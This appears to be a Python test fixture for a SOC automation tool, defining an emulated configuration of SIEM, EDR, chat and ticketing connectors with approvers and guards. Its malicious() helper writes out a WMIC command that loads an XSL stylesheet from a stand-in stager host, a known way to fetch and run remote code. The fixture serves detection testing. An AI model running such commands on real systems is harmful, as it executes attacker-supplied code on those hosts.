"""The configuration of a test's world, as a SOC would write it, and the names in it."""

from __future__ import annotations

from typing import Any

from connectors.emulators.fleet import Emulators
from connectors.emulators.jira_requests import PROJECT
from connectors.emulators.matrix import ROOM
from connectors.emulators.slack_messages import TEAM
from connectors.emulators.slack_workspace import CHANNEL

RESPONDER_A, RESPONDER_B = "U0RESPONDA", "U0RESPONDB"
YES, NO = "white_check_mark", "x"
HOST = "WORKSTATION5"
USER = r"WORKGROUP\wardog"
SUSPICIOUS = r"wmic process list /FORMAT:D:\tools\one.xsl"
BENIGN = "wmic os get Caption /format:csv"
SEARCH = "wmic_format_hits"
PROTECTED = "host DC-*\n"


def malicious(host: str = HOST, number: int = 1) -> str:
    """A command line that loads a stylesheet from the network; each host and number its own."""
    name = host.partition(".")[0].lower()
    return f'wmic process list /FORMAT:"https://stager.example.test/{name}-{number}.xsl"'


def settings(emulators: Emulators) -> dict[str, Any]:
    """A whole configuration: mode act, two approvers, every product a stand-in."""
    urls = emulators.base_urls()

    def product(name: str, *secrets: str, **more: Any) -> dict[str, Any]:
        credentials = {secret: {"file": f"secrets/{name}.{secret}"} for secret in secrets}
        return {
            "type": name,
            "base_url": urls[name],
            "credentials": credentials,
            "settle_s": 1,
            **more,
        }

    return {
        "version": 1,
        "mode": "act",
        "emulated": True,
        "state_dir": "journal",
        "people": {
            "responder-a": {"slack": RESPONDER_A},
            "responder-b": {"slack": RESPONDER_B},
            "operator": {"os_user": "operator"},
        },
        "connectors": {
            "splunk": product("splunk", "token"),
            "falcon": product("falcon", "client_id", "client_secret", tenant="demo"),
            "slack": product("slack", "token", options={"channel": CHANNEL, "team": TEAM}),
            "jira": product("jira", "email", "api_token", options={"project": PROJECT}),
            **(
                {"matrix": product("matrix", "token", options={"room": ROOM})}
                if "matrix" in urls
                else {}
            ),
        },
        "roles": {"siem": "splunk", "edr": "falcon", "chat": "slack", "tickets": "jira"},
        "searches": {
            SEARCH: {
                "saved_search": "WMIC format hits",
                "playbook": "wmic-format",
                "settle_s": 5,
                "canary": "Stockade canary",
            }
        },
        "approvals": {
            "approvers": ["responder-a", "responder-b"],
            "expires_s": 1800,
            "mention": ["responder-a"],
        },
        "guards": {
            "protected_file": "protected.txt",
            "allowed_effects": ["investigate", "notify", "document", "contain", "release"],
        },
        "hunts": {"index": "main"},
        # One after the other: the same story each time.
        "runs_at_once": 1,
    }


def merged(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    """`base` with `changes` laid over it, mapping by mapping; None takes a key away."""
    found = dict(base)
    for key, value in changes.items():
        if value is None:
            found.pop(key, None)
        elif isinstance(value, dict) and isinstance(found.get(key), dict):
            found[key] = merged(found[key], value)
        else:
            found[key] = value
    return found
